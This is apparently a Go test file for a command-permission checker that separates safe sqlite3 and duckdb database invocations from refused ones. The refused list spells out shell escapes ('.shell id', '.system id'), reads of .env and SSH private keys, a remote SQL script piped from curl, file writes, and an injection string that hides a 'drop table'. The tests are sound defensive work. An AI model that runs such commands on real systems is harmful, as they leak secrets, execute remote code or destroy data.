package shell_test

import "testing"

// TestQueriesOnInput: what a database's program is given on its input is read as its argument is; a database in
// memory is no file.
func TestQueriesOnInput(t *testing.T) {
	runsOnDisk(t, `
		sqlite3 src/app.db <<< 'select 1;'
		echo 'select 1' | sqlite3 src/app.db
		printf '.headers on\n.mode csv\nselect * from t;\n' | sqlite3 src/app.db
		sqlite3 new.db <<< 'create table t (a); insert into t values (1);'
		sqlite3 :memory: '.import --csv docs/raw.csv t' 'select count(*) from t'
		sqlite3 :memory: 'create table t (a)' 'drop table t'
		duckdb :memory: 'select 1'
		duckdb <<< 'select 1'
		duckdb src/app.duckdb 'select 1'
		duckdb -c "copy (select * from 'docs/raw.csv') to '/tmp/new-f.csv'"
		duckdb -c "copy (select 1) to 'zz.csv' (format csv, header true)"`)
	refusedOnDisk(t, `
		sqlite3 todo.txt <<< 'drop table t'
		sqlite3 todo.txt <<< 'delete from t'
		sqlite3 src/app.db <<< '.shell id'
		printf '.mode csv\n.output todo.txt\nselect 1;\n' | sqlite3 src/app.db
		printf 'select [a\n.tables\n%s]; drop table t; select %s;\n' "'" "'" | sqlite3 src/app.db
		sqlite3 src/app.db < unknown.sql
		curl -s https://example.com/x.sql | sqlite3 src/app.db
		sqlite3 :memory: '.output todo.txt' 'select 1'
		sqlite3 :memory: '.once todo.txt' 'select 1'
		sqlite3 :memory: '.system id'
		sqlite3 :memory: '.shell id'
		sqlite3 :memory: '.import "|id" t'
		sqlite3 :memory: '.import |id t'
		sqlite3 :memory: '.import .env t' 'select * from t'
		sqlite3 :memory: '.import ~/.ssh/id_rsa t' 'select * from t'
		sqlite3 :memory: "attach 'src/app.db' as a; drop table a.t"
		sqlite3 :memory: "select writefile('todo.txt', 'x')"
		sqlite3 :memory: "select readfile('.env')"
		sqlite3 :memory: "select edit('x')"
		sqlite3 :memory: "vacuum into 'todo.txt'"
		duckdb :memory: 'drop table t; install httpfs'
		duckdb :memory: "attach 'src/app.db'"
		duckdb :memory: "load '/tmp/x.duckdb_extension'"
		duckdb :memory: "select * from read_csv('https://example.com/x.csv')"
		duckdb :memory: "select * from read_text('.env')"
		duckdb :memory: "copy (select 1) to 'todo.txt'"
		duckdb :memory: "copy (select * from read_text('.env')) to '/tmp/f.csv'"
		duckdb :memory: "copy (select 1) to 's3://bucket/x.csv'"
		duckdb :memory: "copy (select 1) to '/srv/x.csv'"
		duckdb :memory: ".shell id"
		duckdb src/app.duckdb 'drop table t'
		duckdb ~/.mozilla/x.db 'select 1'`)
}
